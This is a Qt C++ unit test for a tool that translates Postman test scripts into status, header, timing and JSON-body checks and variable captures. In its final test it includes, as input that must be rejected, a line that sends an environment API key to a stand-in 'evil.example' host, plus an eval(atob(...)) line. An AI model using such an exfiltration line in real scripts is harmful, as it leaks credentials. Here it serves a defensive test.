#include "convert/PostmanTestScript.h"

#include <QTest>

using namespace keyway;

// Postman test-script lines as people write them (the snippets Postman offers, newman examples):
// the ones that mean one check or capture become it, the rest are left out, never run.
class TestPostmanTestScript : public QObject
{
    Q_OBJECT

private:
    static PostmanTestScript::Translation translate(const QString &script)
    {
        return PostmanTestScript::translate({script});
    }

private Q_SLOTS:
    void statusAssertions()
    {
        const auto translated = translate(QStringLiteral(
            "pm.test(\"Status code is 200\", function () {\n    pm.response.to.have.status(200);\n});\n"
            "pm.test('ok', () => {\n  pm.response.to.be.ok;\n  pm.response.to.be.success\n})\n"
            "pm.expect(pm.response.code).to.eql(201);\npm.expect(pm.response.code).to.be.oneOf([200, 201, 202]);\n"
            "pm.response.to.be.notFound;\n// a comment\n\n"));
        QCOMPARE(translated.checks, (QStringList {QStringLiteral("status == 200"), QStringLiteral("status == 200"),
                                        QStringLiteral("status in 2xx"), QStringLiteral("status == 201"),
                                        QStringLiteral("status in [200,201,202]"), QStringLiteral("status == 404")}));
        QVERIFY(translated.leftOut.isEmpty());
    }

    void headersTimeAndBody()
    {
        const auto translated = translate(QStringLiteral(
            "pm.response.to.have.header(\"Content-Type\");\npm.response.to.have.header('ETag', 'v1');\n"
            "pm.expect(pm.response.responseTime).to.be.below(500);\n"
            "const body = pm.response.json();\n"
            "pm.expect(body.data[0].id).to.exist;\npm.expect(body.data[0]['display name']).to.eql('Ada');\n"
            "pm.expect(body.items).to.have.lengthOf(3);\npm.expect(body.total).to.be.above(10);\n"
            "pm.expect(body.total).to.be.at.most(99);\npm.expect(body.tags).to.include(\"new\");\n"
            "pm.expect(body.email).to.match(/@example\\.com$/);\npm.expect(body.paid).to.be.false;\n"
            "pm.expect(body.gone).to.not.exist;\npm.expect(pm.response.json().count).to.equal(2);"));
        QCOMPARE(translated.checks,
            (QStringList {QStringLiteral("header Content-Type exists"), QStringLiteral("header ETag == \"v1\""),
                QStringLiteral("time < 500"), QStringLiteral("$.data[0].id exists"),
                QStringLiteral("$.data[0][\"display name\"] == \"Ada\""), QStringLiteral("$.items length == 3"),
                QStringLiteral("$.total > 10"), QStringLiteral("$.tags contains \"new\""),
                QStringLiteral("$.email matches @example\\.com$"), QStringLiteral("$.paid == false"),
                QStringLiteral("$.gone absent"), QStringLiteral("$.count == 2")}));
        // "at.most" is a chain this reader does not follow: listed, not guessed.
        QCOMPARE(translated.leftOut, QStringList {QStringLiteral("pm.expect(body.total).to.be.at.most(99);")});
    }

    void variableSettingsBecomeCaptures()
    {
        const auto translated = translate(QStringLiteral(
            "var jsonData = pm.response.json();\npm.environment.set(\"invoiceId\", jsonData.data.id);\n"
            "pm.collectionVariables.set('next', pm.response.headers.get('Location'));\n"
            "postman.setEnvironmentVariable(\"access_token\", jsonData.access_token);\n"
            "pm.variables.set(\"code\", pm.response.code);\n"
            "pm.environment.set(\"when\", Date.now());\npm.environment.set(\"bad name\", jsonData.x);"));
        QCOMPARE(translated.captures,
            (QStringList {QStringLiteral("invoiceId = $.data.id"), QStringLiteral("next = header Location"),
                QStringLiteral("access_token = $.access_token secret"), QStringLiteral("code = status")}));
        QCOMPARE(translated.leftOut.size(), 2);
    }

    void everythingElseIsLeftOut()
    {
        const auto translated = translate(QStringLiteral(
            "pm.sendRequest('https://evil.example/' + pm.environment.get('api_key'));\n"
            "eval(atob('ZG9jdW1lbnQ='));\npm.expect(someVariable).to.eql(1);\npm.expect(jsonData.x).to.eql(other);\n"
            "pm.test('x', function () { pm.response.to.have.status(200); });"));
        QVERIFY(translated.checks.isEmpty());
        QVERIFY(translated.captures.isEmpty());
        QCOMPARE(translated.leftOut.size(), 5);
    }
};

QTEST_GUILESS_MAIN(TestPostmanTestScript)
#include "tst_postmantestscript.moc"
